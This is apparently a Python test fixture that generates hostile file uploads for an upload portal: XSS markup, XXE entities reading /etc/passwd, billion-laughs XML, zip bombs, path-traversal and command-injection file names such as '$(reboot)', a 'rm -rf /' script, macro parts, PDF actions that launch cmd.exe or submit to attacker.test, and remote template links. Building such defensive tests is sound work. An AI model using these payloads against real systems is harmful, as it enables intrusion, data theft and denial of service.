"""Files that nobody honest sends: every one has to be refused, or made harmless, without harm to the portal.

`hostile_files(seed, count)` is the same for the same seed. Each file says in `why` what is wrong with it; those with
`harmless` may be kept, because what is stored of them is a new picture or a plain name.
"""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.sample_files import archive, good_files, office, office_parts, pdf, picture, relations

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 48 + b"PE\0\0"
XXE = b"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><document>&x;</document>"
LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><document>&j;</document>"
)
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\drivers",
    "/absolute/path",
    "C:\\evil",
    "nul\0byte",
    "right\u202eto-left",
    "zero\u200bwidth",
    "line\r\nSet-Cookie: a=b",
    'quote"; filename="other.exe',
    "<img src=x onerror=alert(1)>",
    "%2e%2e%2fescaped",
    "con",
    ".",
    "..",
    " ",
    "x" * 5000,
    "\U0001f4a3" * 200,
    "$(reboot)`reboot`",
)


@dataclass(frozen=True)
class HostileFile:
    """`harmless` says that keeping it is right once it is made over or renamed."""

    why: str
    name: str
    content: bytes
    harmless: bool = False


Maker = Callable[[random.Random], HostileFile]


def _noise(rng: random.Random, most: int = 400) -> bytes:
    return rng.randbytes(rng.randrange(1, most))


def _wrong_type(rng: random.Random) -> HostileFile:
    content = rng.choice(
        [SVG, HTML, PROGRAM, b"#!/bin/sh\nrm -rf /\n", b"\x7fELF" + _noise(rng), b"GIF89a" + _noise(rng)]
    )
    suffix = rng.choice([".png", ".jpg", ".pdf", ".txt", ".csv", ".docx", ".xlsx", ".odt", ".html", ".svg", ".exe", ""])
    return HostileFile("wrong type", f"report{suffix}", content)


def _markup(rng: random.Random) -> HostileFile:
    lead = rng.choice([b"", b"\xef\xbb\xbf", b" \n\t", b"Some words first.\n" * rng.randrange(1, 5000)])
    content = lead + rng.choice(
        [SVG, HTML, SCRIPT, b"<iframe src=//x>", b"<IMG SRC=x onerror=alert(1)>", b"<?php system(1)?>"]
    )
    if rng.random() < 0.3 and lead == b"":
        content = content.decode().encode("utf-16")
    return HostileFile("markup as text", rng.choice(["a.txt", "a.csv", "a.log", "a"]), content)


def _archive(rng: random.Random) -> HostileFile:
    inner = {f"file{number}.txt": _noise(rng) for number in range(rng.randrange(1, 5))}
    content = archive(inner)
    if rng.random() < 0.3:
        content = archive({"nested.zip": content})
    if rng.random() < 0.3:
        content = rng.choice([b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\x00", b"BZh9"]) + _noise(rng)
    return HostileFile("archive", rng.choice(["a.zip", "a.docx", "a.xlsx", "a.ods", "a.pdf"]), content)


def _bomb(rng: random.Random) -> HostileFile:
    kind = rng.choice(["docx", "xlsx", "odt", "ods"])
    size = rng.randrange(20, 60) * 1024 * 1024
    content = office(kind, {"big.xml": b"<a>" + b"0" * size + b"</a>"})
    if rng.random() < 0.4:
        content = _understated(content, size + 7)
    return HostileFile("zip bomb", f"bomb.{kind}", content)


def _understated(content: bytes, size: int) -> bytes:
    """The same archive, declaring that its big part is small."""
    return content.replace(struct.pack("<I", size), struct.pack("<I", 1000))


def _many_entries(rng: random.Random) -> HostileFile:
    more = {f"word/part{number}.xml": b"<a/>" for number in range(rng.randrange(2000, 2500))}
    return HostileFile("too many entries", "many.docx", office("docx", more))


def _active_part(rng: random.Random) -> HostileFile:
    kind, folder = rng.choice([("docx", "word"), ("xlsx", "xl"), ("odt", "Basic"), ("ods", "Scripts")])
    part = {
        "docx": ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml", "run.exe"],
        "xlsx": ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "customUI/customUI.xml", "a.js"],
        "odt": ["Basic/Standard/Module1.xml", "Scripts/python/evil.py", "page.html"],
        "ods": ["Basic/Standard/Module1.xml", "Dialogs/Standard/dialog.xml", "run.bat"],
    }[kind]
    return HostileFile("macros", f"{folder.lower()}.{kind}", office(kind, {rng.choice(part): _noise(rng)}))


def _macro_type(rng: random.Random) -> HostileFile:
    kind = rng.choice(["docx", "xlsx"])
    parts = office_parts(kind)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument", b"application/vnd.ms-word.document.macroEnabled"
    )
    return HostileFile("macro type", f"m.{kind}", archive(parts))


def _program_inside(rng: random.Random) -> HostileFile:
    inner = rng.choice([PROGRAM, archive({"a": b"b"}), b"\x7fELF" + _noise(rng)])
    return HostileFile("program inside", "a.docx", office("docx", {"word/media/image1.png": inner}))


def _entities(rng: random.Random) -> HostileFile:
    kind, part = rng.choice(
        [("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"), ("odt", "content.xml"), ("docx", "_rels/.rels")]
    )
    content = rng.choice([XXE, LAUGHS])
    if rng.random() < 0.3:
        content = content.decode().encode("utf-16")
    if rng.random() < 0.3 and part.endswith("document.xml"):
        content = content.replace(b"<!DOCTYPE", b"<!--" + b"x" * rng.randrange(200_000, 300_000) + b"--><!DOCTYPE", 1)
    return HostileFile("entities", f"xxe.{kind}", office(kind, {part: content}))


def _external(rng: random.Random) -> HostileFile:
    kind = rng.choice(["attachedTemplate", "oleObject", "image", "externalLinkPath", "frame", "subDocument"])
    target = rng.choice(["http://attacker.test/x.dotm", "file:///etc/passwd", "\\\\attacker.test\\share"])
    return HostileFile(
        "external link", "t.docx", office("docx", {"word/_rels/document.xml.rels": relations((kind, target, True))})
    )


def _outside_names(rng: random.Random) -> HostileFile:
    name = rng.choice(["../../evil.xml", "/etc/cron.d/x", "word\\..\\..\\x.xml", "C:/x.xml"])
    return HostileFile("path in the archive", "p.docx", office("docx", {name: b"<a/>"}))


def _symlink(rng: random.Random) -> HostileFile:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in office_parts("docx").items():
            target.writestr(name, content)
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        target.writestr(entry, rng.choice(["/etc/passwd", "../../secret"]))
    return HostileFile("symlink entry", "s.docx", out.getvalue())


def _twice(rng: random.Random) -> HostileFile:
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w") as target:
        for name, content in [*office_parts("docx").items(), *office_parts("docx").items()]:
            target.writestr(name, content + b" " * rng.randrange(3))
    return HostileFile("two parts of one name", "d.docx", out.getvalue())


def _polyglot(rng: random.Random) -> HostileFile:
    zipped = archive({"evil.js": b"alert(1)"})
    content, name = rng.choice(
        [
            (pdf() + zipped, "p.pdf"),
            (b"%PDF-1.5\n" + SCRIPT + pdf()[9:], "p.pdf"),
            (office() + b"trailing" + SCRIPT, "p.docx"),
            (SCRIPT + pdf(), "p.pdf"),
            (b"\0\0" + office(), "p.docx"),
            (b"GIF89a/*" + zipped, "p.png"),
        ]
    )
    return HostileFile("polyglot", name, content)


def _picture_polyglot(rng: random.Random) -> HostileFile:
    image_format = rng.choice(["PNG", "JPEG"])
    content = picture(image_format, exif=True) + rng.choice([SCRIPT, archive({"a.js": b"alert(1)"}), pdf()])
    return HostileFile("picture and something else", f"p.{image_format.lower()}", content, harmless=True)


def _active_pdf(rng: random.Random) -> HostileFile:
    action = rng.choice(
        [
            b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
            b"/OpenAction << /S /Launch /F (cmd.exe) >>",
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>",
            b"/AcroForm << /XFA 9 0 R >>",
            b"/OpenAction << /S /SubmitForm /F (http://attacker.test) >>",
            b"/RichMedia 9 0 R",
            b"/Encrypt 9 0 R",
        ]
    )
    # Encryption is declared in the trailer, which is never packed.
    if b"/Encrypt" not in action and rng.random() < 0.4:
        return HostileFile("active PDF, packed", "a.pdf", pdf(packed=b"1 0 << " + action + b" >>"))
    return HostileFile("active PDF", "a.pdf", pdf(extra=action))


def _pdf_bomb(rng: random.Random) -> HostileFile:
    packed = pdf(packed=b"0" * rng.randrange(34, 60) * 1024 * 1024)
    odd = pdf(packed=b"1 0").replace(b"/Filter /FlateDecode", b"/Filter [/ASCIIHexDecode /FlateDecode]")
    return HostileFile("PDF that hides or unpacks", "b.pdf", rng.choice([packed, odd]))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _huge_picture(rng: random.Random) -> HostileFile:
    side = rng.choice([6000, 20_000, 65_535, 2_000_000_000])
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    body = _chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return HostileFile("huge image", "h.png", b"\x89PNG\r\n\x1a\n" + header + body + _chunk(b"IEND", b""))


def _truncated(rng: random.Random) -> HostileFile:
    name = rng.choice(["law.pdf", "photo.png", "photo.jpg", "report.docx", "stocks.xlsx", "report.odt"])
    content = good_files()[name]
    return HostileFile("truncated", name, content[: rng.randrange(12, len(content) - 30)])


def _mutated(rng: random.Random) -> HostileFile:
    name = rng.choice(["photo.png", "photo.jpg", "report.docx", "stocks.ods", "law-packed.pdf"])
    content = bytearray(good_files()[name])
    for _ in range(rng.randrange(1, 40)):
        content[rng.randrange(len(content))] = rng.randrange(256)
    return HostileFile("mutated", name, bytes(content), harmless=True)


def _odd_name(rng: random.Random) -> HostileFile:
    name, content = rng.choice([(".pdf", pdf(str(rng.random()))), (".txt", f"Words {rng.random()}".encode())])
    return HostileFile("hostile name", rng.choice(NAMES) + name, content, harmless=True)


def _double_suffix(rng: random.Random) -> HostileFile:
    return HostileFile("lying suffix", rng.choice(["law.pdf.exe", "law.html", "law.svg", "law.docx"]), pdf())


def _empty(rng: random.Random) -> HostileFile:
    return HostileFile("empty", "e.pdf", rng.choice([b"", b" \n\t ", b"\xef\xbb\xbf"]))


def _random_bytes(rng: random.Random) -> HostileFile:
    head = rng.choice([b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04"])
    return HostileFile(
        "random bytes", rng.choice(["r.pdf", "r.png", "r.docx", "r.txt"]), head + b"\0" + _noise(rng, 4000)
    )


MAKERS: tuple[Maker, ...] = (
    _wrong_type,
    _markup,
    _archive,
    _bomb,
    _many_entries,
    _active_part,
    _macro_type,
    _program_inside,
    _entities,
    _external,
    _outside_names,
    _symlink,
    _twice,
    _polyglot,
    _picture_polyglot,
    _active_pdf,
    _pdf_bomb,
    _huge_picture,
    _truncated,
    _mutated,
    _odd_name,
    _double_suffix,
    _empty,
    _random_bytes,
)


def hostile_files(seed: int, count: int) -> Iterator[HostileFile]:
    """So many hostile files, of every kind in turn."""
    for number in range(count):
        rng = random.Random(f"{seed}/{number}")
        yield MAKERS[number % len(MAKERS)](rng)
